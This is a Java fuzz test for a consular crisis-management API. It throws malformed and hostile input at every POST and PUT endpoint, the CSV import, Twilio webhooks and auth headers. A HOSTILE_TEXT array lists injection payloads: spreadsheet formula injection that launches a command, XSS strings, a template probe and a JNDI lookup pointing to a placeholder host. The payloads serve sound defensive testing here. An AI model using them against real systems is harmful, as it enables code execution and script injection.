package crisis.api.fuzz;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import crisis.api.AppFixture;
import crisis.core.common.Json;
import crisis.core.registry.importing.CsvFormat;
import crisis.core.testing.Samples;
import io.dropwizard.testing.ConfigOverride;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.atomic.AtomicInteger;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;

/**
 * Fuzzing over HTTP, on the running application (sms.type twilio, so that the webhooks are served): the JSON body of
 * every POST and PUT, the CSV import and Twilio's signed form parameters, each a valid request with one part broken
 * (a value of another type, hostile text, a field removed or added) or a body cut short. Every answer is a 2xx or a
 * JSON 4xx (naming a field when it is a 400 or 422), never a 5xx, and a refused request writes nothing. Tries per
 * target: {@code jqwik.tries.default} (200 in {@code mvn test}; RELIABILITY.md gives the longer run).
 */
class ApiFuzzTest {
  static final String TOKEN = "fuzz-auth-token";
  static final String PUBLIC = "https://crisis.example.org";
  static AppFixture fixture;
  static HttpClient http;
  static String registrationId;
  static String crisisId;
  static String placeId;
  static final AtomicInteger SEQ = new AtomicInteger(1000);
  /** Answers by status, printed at the end: the figures of RELIABILITY.md. */
  static final Map<Integer, AtomicInteger> STATUSES = new java.util.concurrent.ConcurrentSkipListMap<>();
  /** Tables a request may write to: a refused request must leave every one of them as it was. */
  static final String WRITES = "SELECT (SELECT count(*) FROM registration) || '/' || (SELECT count(*) FROM "
      + "registration_change) || '/' || (SELECT count(*) FROM place) || '/' || (SELECT count(*) FROM crisis) || '/' "
      + "|| (SELECT count(*) FROM crisis_message) || '/' || (SELECT count(*) FROM crisis_change) || '/' || (SELECT "
      + "count(*) FROM consulate) || '/' || (SELECT count(*) FROM country_risk_change) || '/' || (SELECT count(*) "
      + "FROM sms_reply) || '/' || (SELECT count(*) FROM sms_status_early) || '/' || (SELECT coalesce(sum(version), "
      + "0) FROM registration) || '/' || (SELECT count(*) FROM evacuation_request) || '/' || (SELECT count(*) FROM "
      + "evacuation_traveller) || '/' || (SELECT count(*) FROM transport_leg) || '/' || (SELECT count(*) FROM "
      + "leg_assembly_point) || '/' || (SELECT count(*) FROM gate_operation) || '/' || (SELECT count(*) FROM "
      + "remains_case) || '/' || (SELECT count(*) FROM remains_document) || '/' || (SELECT count(*) FROM "
      + "reintegration_case) || '/' || (SELECT count(*) FROM reintegration_member) || '/' || (SELECT count(*) FROM "
      + "reintegration_need) || '/' || (SELECT count(*) FROM reintegration_partner) || '/' || (SELECT count(*) FROM "
      + "reintegration_assessment) || '/' || (SELECT count(*) FROM reintegration_referral)";

  record Endpoint(String user, String method, String path, String seed) {}

  /** A case opened by hand for a household that came home on its own (Arabic name, a destination in Arabic). */
  static final String CASE = """
      {"destinationCity": "الدار البيضاء", "region": null, "arrivedAt": "2026-11-30T10:00:00Z",
       "members": [{"fullName": "يوسف العلوي", "sex": "M", "dateOfBirth": "1988-04-02", "phone": "+212612345678",
                    "language": "ar", "followUp": true, "sharing": false},
                   {"registrationId": null, "followUp": false}]}""";

  static List<Endpoint> endpoints;

  @BeforeContainer
  static void start() throws Exception {
    fixture = new AppFixture(ConfigOverride.config("sms.type", "twilio"),
        ConfigOverride.config("sms.accountSid", "AC00000000000000000000000000000000"),
        ConfigOverride.config("sms.authToken", TOKEN),
        ConfigOverride.config("sms.apiBase", "http://127.0.0.1:9/"),
        ConfigOverride.config("sms.publicUrl", PUBLIC + "/"),
        ConfigOverride.config("loginThrottle.addressFailures", "1000"));
    fixture.app.before();
    http = HttpClient.newHttpClient();
    registrationId = id(send("officer.paris", "POST", "/api/v1/registrations", Json.write(Samples.parisian(1)),
        "application/json"));
    crisisId = id(send("cell", "POST", "/api/v1/crises", CRISIS, "application/json"));
    placeId = id(send("officer.paris", "POST", "/api/v1/places", PLACE, "application/json"));
    String evacuation = id(send("cell", "POST", "/api/v1/crises", EVACUATION_CRISIS, "application/json"));
    send("cell", "POST", "/api/v1/crises/" + evacuation + "/activate", "", "application/json");
    String leg = id(send("cell", "POST", "/api/v1/crises/" + evacuation + "/evacuation/legs", leg(placeId),
        "application/json"));
    HttpResponse<String> opened = send("cell", "POST", "/api/v1/reintegration/cases", CASE, "application/json");
    assertThat(opened.statusCode()).as(opened.body()).isEqualTo(201);
    String caseId = (String) Json.read(opened.body(), LinkedHashMap.class).get("caseId");
    endpoints = List.of(
        new Endpoint("cell", "POST", "/api/v1/reintegration/cases", CASE),
        new Endpoint("cell", "POST", "/api/v1/reintegration/partners", """
            {"region": "MA.06", "name": "ANAPEC Casablanca", "contact": "+212522000000",
             "kinds": ["EMPLOYMENT", "SKILLS_TRAINING"]}"""),
        new Endpoint("worker", "POST", "/api/v1/reintegration/cases/" + caseId + "/needs",
            "{\"memberSeq\": 1, \"kind\": \"EMPLOYMENT\", \"notes\": \"mechanic, 10 years\"}"),
        new Endpoint("worker", "POST", "/api/v1/reintegration/cases/" + caseId + "/assessments", """
            {"indicators": {"INCOME": "NONE", "WORK_OR_TRAINING": "SEEKING", "DEBT": "HEAVY",
             "FOOD_SECURITY": "SOMETIMES_SHORT", "ECONOMIC_SATISFACTION": "2", "HOUSING": "TEMPORARY",
             "SCHOOLING": "NOT_APPLICABLE", "HEALTH_ACCESS": "PARTIAL", "DOCUMENTS": "IN_PROGRESS",
             "SOCIAL_RIGHTS": "NO", "SOCIAL_NETWORK": "2", "COMMUNITY_PARTICIPATION": "NEVER", "DISTRESS": "OFTEN",
             "SAFETY": "MOSTLY_SAFE", "WISH_TO_LEAVE_AGAIN": "UNSURE"}}"""),
        new Endpoint("officer.paris", "POST", "/api/v1/crises/" + evacuation + "/evacuation/requests",
            "{\"registrationId\": \"" + registrationId + "\", \"needs\": [\"PREGNANCY\"], \"notes\": \"2nd floor\", "
            + "\"companions\": [{\"fullName\": \"Jean Dupont\", \"sex\": \"M\", \"dateOfBirth\": \"1980-01-02\", "
            + "\"nationality\": \"FR\", \"documentType\": \"PASSPORT\", \"documentNumber\": \"19AB12345\", "
            + "\"needs\": [\"WHEELCHAIR\"]}]}"),
        new Endpoint("cell", "POST", "/api/v1/crises/" + evacuation + "/evacuation/legs", leg(placeId)),
        new Endpoint("officer.paris", "POST", "/api/v1/legs/" + leg + "/gate",
            "{\"operations\": [{\"id\": \"0190f1a8-0000-7000-8000-0000000000aa\", \"type\": \"CHECK_IN\", "
            + "\"boardingCode\": \"ACDEFGHJ\"}, {\"id\": \"0190f1a8-0000-7000-8000-0000000000ab\", "
            + "\"type\": \"BOARD\", \"documentNumber\": \"19AB12345\"}]}"),
        new Endpoint("officer.paris", "POST", "/api/v1/remains", """
            {"registrationId": null, "deceasedName": "Omar Benali", "dateOfBirth": "1950-03-01",
             "dateOfDeath": "2026-11-28", "placeOfDeath": "Hôpital Lariboisière", "country": "FR",
             "documentNumber": "P1234567", "familyName": "Sara Benali", "familyPhone": "+212661234567",
             "familyRelation": "daughter", "destinationCity": "Oujda"}"""),
        new Endpoint("officer.paris", "POST", "/api/v1/registrations", Json.write(Samples.parisian(2))),
        new Endpoint("officer.paris", "PUT", "/api/v1/registrations/" + registrationId,
            Json.write(Samples.withPhone(Samples.parisian(1), "+33655554444"))),
        new Endpoint("officer.paris", "POST", "/api/v1/registrations/" + registrationId + "/archive",
            "{\"reason\": \"moved away\"}"),
        new Endpoint("officer.paris", "POST", "/api/v1/registrations/" + registrationId + "/merge",
            "{\"duplicateId\": \"" + registrationId + "\"}"),
        new Endpoint("cell", "POST", "/api/v1/registrations/search", """
            {"zone": {"type": "Polygon", "coordinates": [[[2.3, 48.8], [2.4, 48.8], [2.4, 48.9], [2.3, 48.8]]]},
             "vulnerability": "MEDICAL_CONDITION", "limit": 10}"""),
        new Endpoint("officer.paris", "POST", "/api/v1/places", PLACE),
        new Endpoint("officer.paris", "PUT", "/api/v1/places/" + placeId, PLACE),
        new Endpoint("cell", "PUT", "/api/v1/countries/LY/risk", "{\"level\": 3, \"reason\": \"clashes\"}"),
        new Endpoint("admin", "POST", "/api/v1/consulates", "{\"id\": \"c-fuzz\", \"name\": \"Consulate\", "
            + "\"city\": \"Oran\", \"country\": \"DZ\", \"jurisdiction\": [\"DZ\"]}"),
        new Endpoint("admin", "PUT", "/api/v1/consulates/fr-paris", "{\"name\": \"Consulate General in Paris\", "
            + "\"city\": \"Paris\", \"country\": \"FR\", \"jurisdiction\": [\"FR\", \"MC\"]}"),
        new Endpoint("cell", "POST", "/api/v1/crises", CRISIS),
        new Endpoint("cell", "POST", "/api/v1/crises/" + crisisId + "/messages",
            "{\"texts\": {\"ar\": \"ابقوا في منازلكم\", \"fr\": \"Restez chez vous.\"}}"),
        new Endpoint("cell", "PUT", "/api/v1/crises/" + crisisId + "/zones",
            "{\"zones\": [{\"circle\": {\"latitude\": 32.9, \"longitude\": 13.2, \"radiusKm\": 3}}]}"),
        new Endpoint("cell", "POST", "/api/v1/crises/" + crisisId + "/close", "{\"reason\": \"calm\"}"));
  }

  @AfterContainer
  static void stop() {
    int total = STATUSES.values().stream().mapToInt(AtomicInteger::get).sum();
    System.out.printf("api fuzz: %d requests, by status %s%n", total, STATUSES);
    if (fixture != null) {
      fixture.app.after();
    }
  }

  static final String CRISIS = """
      {"title": "Clashes", "type": "ARMED_CONFLICT", "severity": "SEVERE", "fallback": ["fr", "ar"],
       "zones": [{"label": "centre", "circle": {"latitude": 32.89, "longitude": 13.19, "radiusKm": 5}},
                 {"country": "LY"}],
       "messages": [{"ar": "ابقوا في منازلكم", "fr": "Restez chez vous."}]}""";
  static final String EVACUATION_CRISIS = """
      {"title": "Floods", "type": "FLOOD", "severity": "SEVERE",
       "zones": [{"label": "Paris", "circle": {"latitude": 48.85, "longitude": 2.35, "radiusKm": 20}}],
       "messages": [{"fr": "Répondez 3 pour partir."}]}""";

  static String leg(String placeId) {
    return """
        {"kind": "FLIGHT", "carrier": "Royal Air Maroc", "reference": "AT 9001", "seats": 150, "stretcherPlaces": 1,
         "wheelchairPlaces": 2, "departsAt": "%s", "reportMinutes": 180, "timeZone": "Europe/Paris",
         "destinationCity": "Casablanca", "points": [{"placeId": "%s", "capacity": 200}]}"""
        .formatted(java.time.Instant.now().plus(java.time.Duration.ofDays(2)).truncatedTo(
            java.time.temporal.ChronoUnit.MINUTES), placeId);
  }

  static final String PLACE = """
      {"kind": "ASSEMBLY_POINT", "name": "Gare de Lyon", "latitude": 48.8443, "longitude": 2.3744,
       "country": "FR", "notes": "hall 1"}""";

  /**
   * The security reviews' text: spreadsheet formulas (a manifest opened by a carrier), markup (a name shown by the
   * console), a NUL, controls; each taken as text or refused with a 4xx, never a 5xx.
   */
  static final String[] HOSTILE_TEXT = {"=HYPERLINK(\"http://x.invalid\",\"ok\")", "+1+1", "-2+3", "@SUM(A1:A9)",
      "\t=1", "\r=cmd|' /C calc'!A0", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>",
      "\"><svg onload=alert(1)>", "javascript:alert(1)", "&lt;b&gt;", "{{7*7}}", "${jndi:ldap://x.invalid/a}",
      "Omar\u0000Benali", "عمر <b>بنعلي</b>"};

  /** Values put where another was: every JSON type, and the strings that broke things before. */
  @Provide
  Arbitrary<JsonNode> values() {
    JsonNodeFactory f = JsonNodeFactory.instance;
    Arbitrary<JsonNode> text = Arbitraries.oneOf(Arbitraries.strings().all().ofMaxLength(30),
        Arbitraries.of("\u0000", "\ud800", "a\u202eb", "", "  ", "0x1p5", "NaN", "1e999", "-1", "1970-01-01",
            "2026-02-30", "+33612345678", "fr-paris", "ly-tripoli", "FR", "LY", "xx", "null", "x".repeat(5000),
            "فاطمة", "MEDICAL_CONDITION", "ACTIVE", "ar", "00000000-0000-0000-0000-000000000000"),
        Arbitraries.of(HOSTILE_TEXT)).map(f::textNode);
    Arbitrary<JsonNode> number = Arbitraries.oneOf(
        Arbitraries.integers().map(f::numberNode), Arbitraries.doubles().map(f::numberNode),
        Arbitraries.of(f.numberNode(new java.math.BigDecimal("1e400")), f.numberNode(Long.MAX_VALUE),
            f.numberNode(-0.0), f.numberNode(91), f.numberNode(181)));
    Arbitrary<JsonNode> other = Arbitraries.of(f.nullNode(), f.booleanNode(true), f.arrayNode(), f.objectNode(),
        f.arrayNode().add(f.nullNode()), f.objectNode().put("type", "Polygon"), f.arrayNode().add(f.arrayNode()));
    return Arbitraries.oneOf(text, number, other);
  }

  @Property
  void anyBodyToEveryPostAndPutIsA2xxOrAJson4xxAndARefusalWritesNothing(
      @ForAll("endpointIndex") int endpoint, @ForAll long where, @ForAll("values") JsonNode value,
      @ForAll("mutationKind") int kind) throws Exception {
    Endpoint e = endpoints.get(endpoint);
    String body = mutate(e.seed(), new Random(where), value, kind);
    check(e.user(), e.method(), e.path(), body, "application/json");
  }

  @Provide
  Arbitrary<Integer> endpointIndex() {
    return Arbitraries.integers().between(0, endpoints.size() - 1);
  }

  @Provide
  Arbitrary<Integer> mutationKind() {
    return Arbitraries.integers().between(0, 5);
  }

  /** 0-2: one value replaced; 3: a field removed; 4: an unknown field added; 5: the text cut short. */
  static String mutate(String seed, Random random, JsonNode value, int kind) {
    JsonNode root = Json.read(seed, JsonNode.class);
    if (kind == 5) {
      return seed.substring(0, random.nextInt(seed.length()));
    }
    List<JsonNode> containers = new ArrayList<>();
    collect(root, containers);
    JsonNode target = containers.get(random.nextInt(containers.size()));
    if (target instanceof ObjectNode o && o.size() > 0) {
      List<String> names = new ArrayList<>();
      o.fieldNames().forEachRemaining(names::add);
      String name = names.get(random.nextInt(names.size()));
      switch (kind) {
        case 3 -> o.remove(name);
        case 4 -> o.set("unknown" + random.nextInt(3), value);
        default -> o.set(name, value);
      }
    } else if (target instanceof ArrayNode a && a.size() > 0) {
      int i = random.nextInt(a.size());
      if (kind == 3) {
        a.remove(i);
      } else {
        a.set(i, value);
      }
    } else {
      return Json.write(value);
    }
    return Json.write(root);
  }

  private static void collect(JsonNode n, List<JsonNode> out) {
    if (n.isContainerNode()) {
      out.add(n);
      for (Iterator<JsonNode> it = n.elements(); it.hasNext(); ) {
        collect(it.next(), out);
      }
    }
  }

  @Provide
  Arbitrary<String> csv() {
    String header = CsvFormat.header();
    Arbitrary<String> row = Arbitraries.integers().between(2000, 1_000_000).map(n -> CsvFormat.write(
        Samples.parisian(n)).strip());
    Arbitrary<String> hostile = Arbitraries.oneOf(Arbitraries.strings().all().ofMaxLength(20),
        Arbitraries.of("\"", "\u0000", "\ud800", "\u202e", "0x1p5", ",,,,", "\r", "\ufeff", "="));
    return net.jqwik.api.Combinators.combine(row.list().ofMinSize(1).ofMaxSize(3), hostile.list().ofMaxSize(3),
        Arbitraries.longs(), Arbitraries.integers().between(0, 3)).as((rows, bits, seed, kind) -> {
          Random r = new Random(seed);
          String body = header + "\n" + String.join("\n", rows) + "\n";
          for (String bit : bits) {
            int at = r.nextInt(body.length());
            body = body.substring(0, at) + bit + body.substring(at);
          }
          return switch (kind) {
            case 0 -> body;
            case 1 -> body.substring(0, r.nextInt(body.length()));
            case 2 -> body.replace(",", ";");
            default -> header.substring(0, r.nextInt(header.length())) + "\n" + String.join("\n", rows);
          };
        });
  }

  @Property
  void anyCsvImportIsA2xxOrAJson4xx(@ForAll("csv") String csv) throws Exception {
    check("officer.paris", "POST", "/api/v1/registrations/import", csv, "text/csv");
  }

  @Provide
  Arbitrary<Map<String, String>> twilioForm() {
    Arbitrary<String> names = Arbitraries.of("MessageSid", "MessageStatus", "ErrorCode", "From", "To", "Body",
        "SmsSid", "AccountSid", "NumMedia", "x");
    Arbitrary<String> values = Arbitraries.oneOf(Arbitraries.strings().all().ofMaxLength(30),
        Arbitraries.of("SMfuzz1", "delivered", "undelivered", "sent", "failed", "read", "queued", "bogus", "30005",
            "-1", "99999999999", "+33612345678", "+218911234567", "1", "2", "HELP", "STOP", "مساعدة", "\u0000",
            "\ud800", "\u202e", ""));
    return Arbitraries.maps(names, values).ofMaxSize(6);
  }

  @Property
  void anySignedTwilioFormIsA2xxOrAJson4xx(@ForAll("twilioForm") Map<String, String> form,
      @ForAll("hookIndex") int hook) throws Exception {
    String path = hook == 0 ? "/api/v1/twilio/status" : "/api/v1/twilio/inbound";
    StringBuilder signed = new StringBuilder(PUBLIC + path);
    new TreeMap<>(form).forEach((k, v) -> signed.append(k).append(v));
    Mac mac = Mac.getInstance("HmacSHA1");
    mac.init(new SecretKeySpec(TOKEN.getBytes(StandardCharsets.UTF_8), "HmacSHA1"));
    String signature = Base64.getEncoder().encodeToString(mac.doFinal(signed.toString()
        .getBytes(StandardCharsets.UTF_8)));
    StringBuilder body = new StringBuilder();
    form.forEach((k, v) -> body.append(body.length() == 0 ? "" : "&").append(URLEncoder.encode(k,
        StandardCharsets.UTF_8)).append('=').append(URLEncoder.encode(v, StandardCharsets.UTF_8)));
    HttpResponse<String> r = http.send(HttpRequest.newBuilder(URI.create(base() + path))
        .header("Content-Type", "application/x-www-form-urlencoded").header("X-Twilio-Signature", signature)
        .POST(HttpRequest.BodyPublishers.ofString(body.toString())).build(), HttpResponse.BodyHandlers.ofString());
    STATUSES.computeIfAbsent(r.statusCode(), k -> new AtomicInteger()).incrementAndGet();
    assertThat(r.statusCode()).as("%s %s -> %s", path, form, r.body()).isLessThan(500);
  }

  /**
   * Whatever an Authorization header holds (a NUL in the user name gave an unauthenticated 500): a JSON 401 or 400,
   * never a 5xx, and nobody signed in.
   */
  @Property
  void anyAuthorizationHeaderIsAJson4xxUnlessItIsAUsersRightPassword(@ForAll("authorization") String header)
      throws Exception {
    HttpResponse<String> r = http.send(HttpRequest.newBuilder(URI.create(base() + "/api/v1/crises"))
        .header("Authorization", header).GET().build(), HttpResponse.BodyHandlers.ofString());
    STATUSES.computeIfAbsent(r.statusCode(), k -> new AtomicInteger()).incrementAndGet();
    String what = header + " -> " + r.statusCode() + " " + r.body();
    assertThat(r.statusCode()).as(what).isIn(400, 401, 429);
    assertThat(Json.read(r.body(), Map.class)).as(what).containsKey("error");
  }

  @Provide
  Arbitrary<String> authorization() {
    Arbitrary<String> user = Arbitraries.oneOf(Arbitraries.strings().all().ofMaxLength(20),
        // Never a fixture user's own name: its failures would hold that account for the other properties.
        Arbitraries.of("cell\u0000", "\u0000", "nobody", "admin\r\n", "عمر", "", ":", "nobody:extra"),
        Arbitraries.of(HOSTILE_TEXT));
    Arbitrary<String> password = Arbitraries.oneOf(Arbitraries.strings().all().ofMaxLength(20),
        Arbitraries.of("", "\u0000", "wrong", AppFixture.PASSWORD + "\u0000"));
    Arbitrary<String> basic = net.jqwik.api.Combinators.combine(user, password).as((u, pw) -> "Basic "
        + Base64.getEncoder().encodeToString((u + ":" + pw).getBytes(StandardCharsets.UTF_8)));
    Arbitrary<String> broken = Arbitraries.of("Basic", "Basic ", "Basic !!!", "Basic bm9ib2R5", "Basic =",
        "Bearer x", "basic " + Base64.getEncoder().encodeToString("nobody:x".getBytes(StandardCharsets.UTF_8)),
        "Basic " + Base64.getEncoder().encodeToString(new byte[] {(byte) 0xff, (byte) 0xfe, ':', 'x'}),
        "Basic " + "A".repeat(6000));
    return Arbitraries.oneOf(basic, broken);
  }

  @Provide
  Arbitrary<Integer> hookIndex() {
    return Arbitraries.integers().between(0, 1);
  }

  private static void check(String user, String method, String path, String body, String type) throws Exception {
    String before = fixture.jdbi.withHandle(h -> h.createQuery(WRITES).mapTo(String.class).one());
    HttpResponse<String> r = send(user, method, path, body, type);
    int status = r.statusCode();
    STATUSES.computeIfAbsent(status, k -> new AtomicInteger()).incrementAndGet();
    String what = method + " " + path + " " + (body.length() > 300 ? body.substring(0, 300) + "…" : body) + " -> "
        + status + " " + r.body();
    assertThat(status).as(what).isLessThan(500);
    if (status >= 400) {
      Map<String, Object> json = Json.read(r.body(), Map.class);
      assertThat(json).as(what).containsKey("error");
      if ((status == 400 || status == 422) && json.get("errors") instanceof List<?> errors) {
        assertThat(errors).as(what).allSatisfy(x -> assertThat(((Map<?, ?>) x).get("field")).isNotNull());
      }
      String after = fixture.jdbi.withHandle(h -> h.createQuery(WRITES).mapTo(String.class).one());
      assertThat(after).as("nothing written by a refused " + what).isEqualTo(before);
    }
  }

  static String base() {
    return "http://127.0.0.1:" + fixture.app.getLocalPort();
  }

  static HttpResponse<String> send(String user, String method, String path, String body, String type)
      throws Exception {
    String etag = method.equals("PUT") && path.startsWith("/api/v1/registrations/") ? currentVersion(path) : null;
    HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(base() + path))
        .header("Authorization", "Basic " + Base64.getEncoder().encodeToString((user + ":" + AppFixture.PASSWORD)
            .getBytes(StandardCharsets.UTF_8)))
        .header("Content-Type", type + "; charset=UTF-8")
        .method(method, HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8));
    if (etag != null) {
      b.header("If-Match", etag);
    }
    return http.send(b.build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
  }

  private static String currentVersion(String path) throws Exception {
    HttpResponse<String> r = http.send(HttpRequest.newBuilder(URI.create(base() + path))
        .header("Authorization", "Basic " + Base64.getEncoder().encodeToString(("cell:" + AppFixture.PASSWORD)
            .getBytes(StandardCharsets.UTF_8))).build(), HttpResponse.BodyHandlers.ofString());
    return r.headers().firstValue("ETag").orElse("\"1\"");
  }

  private static String id(HttpResponse<String> r) {
    assertThat(r.statusCode()).as(r.body()).isEqualTo(201);
    return (String) Json.read(r.body(), LinkedHashMap.class).get("id");
  }
}
